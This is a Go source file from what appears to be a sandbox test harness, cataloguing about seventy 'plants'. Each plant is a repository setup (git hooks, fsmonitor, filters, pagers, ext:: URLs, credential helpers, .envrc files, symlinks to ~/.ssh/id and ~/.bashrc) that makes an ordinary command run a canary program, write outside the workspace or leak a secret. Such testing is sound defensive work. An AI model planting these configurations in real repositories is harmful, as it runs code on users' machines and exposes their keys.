package gitattack

// A plant is something that lies in a repository before the harness gives a command there, left by a checkout, an archive or a
// tool that was not confined, and that the command executes or obeys.
type plant struct {
	name string
	// make is a shell script that runs in the plant's own clone. $E is a program that proves its execution, $D the
	// clone's absolute path, $VICTIM and $HOME directories of the user's.
	make string
	run  string // what the harness runs there: a line of a shell
	does effect
	tty  bool   // the command has a terminal
	need string // a program, or git's version as "git 2.43"
}

// effect is what a plant does where nothing holds it.
type effect string

const (
	executes effect = "executes a program of the plant's"
	writes   effect = "writes outside the workspace"
	leaks    effect = "prints a secret of the user's"
	nothing  effect = "does nothing: git has closed it" // planted nevertheless
)

// plants are run by the harness outside, to see that they work, and in a session.
var plants = []plant{
	{name: "fsmonitor", make: `git config core.fsmonitor "$E; false"`, run: `git status`},
	{name: "pre-commit", make: `prog .git/hooks/pre-commit`, run: `git commit -q --allow-empty -m m`},
	{name: "post-index-change", make: `prog .git/hooks/post-index-change; touch a`, run: `git status`},
	{name: "hooks-link", make: `mkdir h; prog h/post-checkout; mv .git/hooks old; ln -s ../h .git/hooks`, run: `git checkout -q -b n`},
	{name: "hooksPath", make: `prog h/reference-transaction; git config core.hooksPath "$D/h"`, run: `git commit -q --allow-empty -m m`},
	{name: "clean", make: `git config filter.x.clean "$E; cat"; echo '* filter=x' >.gitattributes; echo x >>a`, run: `git diff`},
	{name: "smudge", make: `git config filter.x.smudge "$E; cat"; echo '* filter=x' >.gitattributes; rm a`, run: `git checkout -q -- a`},
	{name: "process", make: `git config filter.x.process "$E"; echo '* filter=x' >.gitattributes; echo x >>a`, run: `git add a`},
	{name: "info-attributes", make: `git config filter.x.clean "$E; cat"; mkdir -p .git/info; echo '* filter=x' >.git/info/attributes; touch a`, run: `git status`},
	{name: "attributesFile", make: `git config filter.x.clean "$E; cat"; echo '* filter=x' >f; git config core.attributesFile "$D/f"; touch a`, run: `git status`},
	{name: "attr-tree", make: `git config diff.x.textconv "$E; cat"; echo '* diff=x' >.gitattributes; git add .; git commit -qm m; git config attr.tree HEAD
		git rm -q .gitattributes; git commit -qm n; git config attr.tree HEAD~1; echo x >>a`, run: `git diff`, need: "git 2.43"},
	{name: "textconv", make: `git config diff.x.textconv "$E; cat"; echo '* diff=x' >.gitattributes`, run: `git log -p -1`},
	{name: "textconv-blame", make: `git config diff.x.textconv "$E; cat"; echo '* diff=x' >.gitattributes`, run: `git blame a`},
	{name: "diff-command", make: `git config diff.x.command "$E"; echo '* diff=x' >.gitattributes; echo x >>a`, run: `git diff`},
	{name: "diff-external", make: `git config diff.external "$E"; echo x >>a`, run: `git diff`},
	{name: "difftool", make: `git config diff.tool x; git config difftool.x.cmd "$E"; echo x >>a`, run: `git difftool -y`},
	{name: "merge-driver", make: `side; git config merge.x.driver "$E; true"; echo '* merge=x' >.gitattributes`, run: `git merge -q s`},
	{name: "merge-strategy", make: `side; GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i HEAD~1 2>/dev/null; prog git-merge-x/evil
		echo x/evil >.git/rebase-merge/strategy; echo "pick $(git rev-parse s) s" >>.git/rebase-merge/git-rebase-todo`, run: `git rebase --continue`},
	{name: "alias", make: `git config alias.st "!$E"`, run: `git st`},
	{name: "pager", make: `git config core.pager "$E"`, run: `git log`, tty: true},
	{name: "pager-diff", make: `git config pager.diff "$E"; echo x >>a`, run: `git diff`, tty: true},
	{name: "editor", make: `git config core.editor "$E; true"`, run: `git commit -q --allow-empty`},
	{name: "sequence-editor", make: `git config sequence.editor "$E; true"`, run: `git rebase -q -i HEAD~1`},
	{name: "rebase-exec", make: `GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i HEAD~1 2>/dev/null; echo "exec $E" >>.git/rebase-merge/git-rebase-todo`, run: `git rebase --continue`},
	{name: "sshCommand", make: `git config core.sshCommand "$E; false"; git config remote.origin.url ssh://h/x`, run: `git fetch`},
	{name: "gitProxy", make: `git config core.gitProxy "$E"; git config remote.origin.url git://h/x`, run: `git fetch`},
	{name: "ext", make: `git config remote.origin.url "ext::$E"; git config protocol.ext.allow always`, run: `git fetch`},
	{name: "insteadOf", make: `git config "url.ext::$E .insteadOf" /; git config protocol.ext.allow always`, run: `git fetch`},
	{name: "uploadpack", make: `git config remote.origin.uploadpack "$E; git-upload-pack"`, run: `git fetch`},
	{name: "alternateRefs", make: `git clone -q --bare . o.git; git config core.alternateRefsCommand "$E"; echo "$D/o.git/objects" >.git/objects/info/alternates
		git clone -q --bare . n.git; git -C n.git update-ref refs/heads/n "$(git -C n.git commit-tree -m n HEAD^{tree})"; git config remote.origin.url "$D/n.git"`, run: `git fetch origin`},
	{name: "partial-clone", make: `git config core.repositoryformatversion 1; git config extensions.partialClone p; git config remote.p.promisor true; git config remote.p.url ssh://h/x
		git config remote.p.partialCloneFilter blob:none
		git config core.sshCommand "$E; false"; o=$(git rev-parse HEAD:a); rm ".git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-)"`, run: `git show`},
	{name: "push", make: `git clone -q --bare . e.git; prog e.git/hooks/pre-receive; git config remote.origin.url "$D/e.git"`, run: `git push -q origin HEAD:refs/heads/z`},
	{name: "gpg-sign", make: `git config gpg.program "$E"; git config commit.gpgSign true`, run: `git commit -q --allow-empty -m m`},
	{name: "credential", make: `git config credential.helper "!$E"`, run: `printf 'protocol=https\nhost=h\n\n' | git credential fill`},
	{name: "askPass", make: `git config core.askPass "$E"`, run: `printf 'protocol=https\nhost=h\n\n' | git credential fill`},
	{name: "trailer", make: `git config trailer.x.command "$E"`, run: `git commit -q --allow-empty -m m --trailer x=y`},
	{name: "diffFilter", make: `git config interactive.diffFilter "$E; cat"; echo x >>a`, run: `TERM=xterm git add -p </dev/null`, tty: true},
	{name: "archive", make: `git config tar.x.command "$E; cat"`, run: `git archive --format=x HEAD | wc -c`},
	{name: "submodule-pointer", make: `evil e.git "$D/s"; git clone -q . s; rm -rf s/.git; echo 'gitdir: ../e.git' >s/.git; git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),s"`, run: `git status`},
	{name: "submodule-update", make: `git clone -q . s; git config submodule.s.update "!$E"; git config submodule.s.active true; git config submodule.s.url "$D/s"
		printf '[submodule "s"]\n\tpath = s\n\turl = ./s\n' >.gitmodules; git update-index --add --cacheinfo "160000,$(git rev-parse HEAD~1),s"`, run: `git submodule update`},
	{name: "git-file", make: `evil e.git "$D"; mv .git old; echo 'gitdir: e.git' >.git`, run: `git status`},
	{name: "commondir", make: `evil e.git "$D"; echo ../e.git >.git/commondir`, run: `git status`},
	{name: "worktree-config", make: `git config core.repositoryformatversion 1; git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$E; false"`, run: `git status`},
	{name: "linked-worktree", make: `git worktree add -q -b w wt; git config extensions.worktreeConfig true; git -C wt config --worktree core.fsmonitor "$E; false"`, run: `git -C wt status`},
	{name: "include", make: `printf '[core]\n\tfsmonitor = "%s; false"\n' "$E" >c; git config include.path ../c`, run: `git status`},
	{name: "includeIf", make: `printf '[core]\n\tfsmonitor = "%s; false"\n' "$E" >c; git config includeIf.onbranch:**.path ../c`, run: `git status`},
	{name: "bare-below", make: `evil d "$D"`, run: `cd d && git status`},
	{name: "envrc-git-dir", make: `evil e.git "$D"; echo 'export GIT_DIR=e.git' >.envrc`, run: `. ./.envrc; git status`},
	{name: "envrc-config", make: `echo "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='$E; false'" >.envrc`, run: `. ./.envrc; git status`},
	{name: "env-diff", make: `echo "GIT_EXTERNAL_DIFF=$E" >.env; echo x >>a`, run: `set -a; . ./.env; git diff`},
	{name: "formatter", make: `prog node_modules/.bin/prettier`, run: `PATH=node_modules/.bin:$PATH; prettier -w .`},
	{name: "makefile", make: `printf 'fmt:\n\t%s\n' "$E" >Makefile`, run: `make fmt`, need: "make"},
	{name: "python-module", make: `echo 'import os; os.system(os.environ["PWD"] + "/e")' >black.py; cp "$E" e`, run: `python3 -m black .`, need: "python3"},
	{name: "node-config", make: `echo "require('child_process').execFileSync('$E')" >.prettierrc.js`, run: `node -e 'require("./.prettierrc.js")'`, need: "node"},

	{name: "work-tree", make: `git config core.worktree "$VICTIM"`, run: `git checkout -q -f`, does: writes},
	{name: "log-link", make: `rm .git/logs/HEAD; ln -s "$HOME/.bashrc" .git/logs/HEAD`, run: `git commit -q --allow-empty -m m`, does: writes},
	{name: "message-link", make: `ln -s "$VICTIM/new" .git/COMMIT_EDITMSG`, run: `git commit -q --allow-empty -m m`, does: writes},
	{name: "objects-link", make: `cp -r .git/objects "$VICTIM/objects"; rm -rf .git/objects; ln -s "$VICTIM/objects" .git/objects; echo x >>a`, run: `git add a`, does: writes},
	{name: "worktree-place", make: `mkdir -p .git/worktrees/w; cd .git/worktrees/w; git rev-parse HEAD >HEAD; echo ../.. >commondir; echo "$VICTIM/.git" >gitdir`, run: `git worktree repair`, does: writes},
	{name: "go-link", make: `ln -s "$VICTIM/x.go" x.go`, run: `gofmt -w x.go`, does: writes, need: "gofmt"},
	{name: "shell-link", make: `rm a; ln -s "$VICTIM/file" a`, run: `sed -i --follow-symlinks s/o/0/ a`, does: writes},

	{name: "alternates", make: `echo "$HOME/private.git/objects" >.git/objects/info/alternates`, run: `git show ` + secretBlob, does: leaks},
	{name: "ignoreRevs", make: `git config blame.ignoreRevsFile "$HOME/.ssh/id"`, run: `git blame a`, does: leaks},
	{name: "mailmap-file", make: `git config mailmap.file "$HOME/map"`, run: `git log --format=%aN`, does: leaks},
	{name: "content-link", make: `rm a; ln -s "$HOME/.ssh/id" a`, run: `grep -r . a`, does: leaks},

	{name: "mailmap-link", make: `ln -s "$HOME/map" .mailmap`, run: `git log --format=%aN`, does: nothing},
	{name: "attributes-link", make: `git config filter.x.clean "$E; cat"; echo '* filter=x' >f; ln -s f .gitattributes; touch a`, run: `git status`, does: nothing},
}

// planting defines what the scripts of plants use. A plant's program leaves its name where only an execution outside can
// leave it, and in the workspace, to show that it is alive inside too.
const planting = `set -e
prog() { mkdir -p "$(dirname "$1")"; cp "$E" "$1"; }
evil() { # a repository whose work tree is $2
	mkdir -p "$1/objects" "$1/refs/heads"; echo ref: refs/heads/main >"$1/HEAD"
	printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "%s"\n\tfsmonitor = "%s; false"\n' "$2" "$E" >"$1/config"
}
side() { git checkout -q -b s HEAD~1; echo s >>a; git commit -qam s; git checkout -q main; }
planted() {
	NAME=$1 D=$WS/$1 E=$WS/programs/$1
	printf '#!/bin/sh\n: >%s\n: >%s 2>/dev/null\nexit 0\n' "$WS/ran/$1" "$CANARY/$1" >"$E"
	chmod 755 "$E"
	cp -r ../template "$D"
}
mkdir programs ran
git clone -q ../remote.git ../template; rm ../template/.git/hooks/*
printf 'package  x\n' >"$VICTIM/x.go"
echo "` + secret + ` <user@example.com>" >"$HOME/map"
git init -q --bare "$HOME/private.git"
echo "` + secret + `" | git -C "$HOME/private.git" hash-object -w --stdin >/dev/null
`

// secretBlob is the id of the secret and a newline, in the user's private repository.
var secretBlob = blobID([]byte(secret + "\n"))
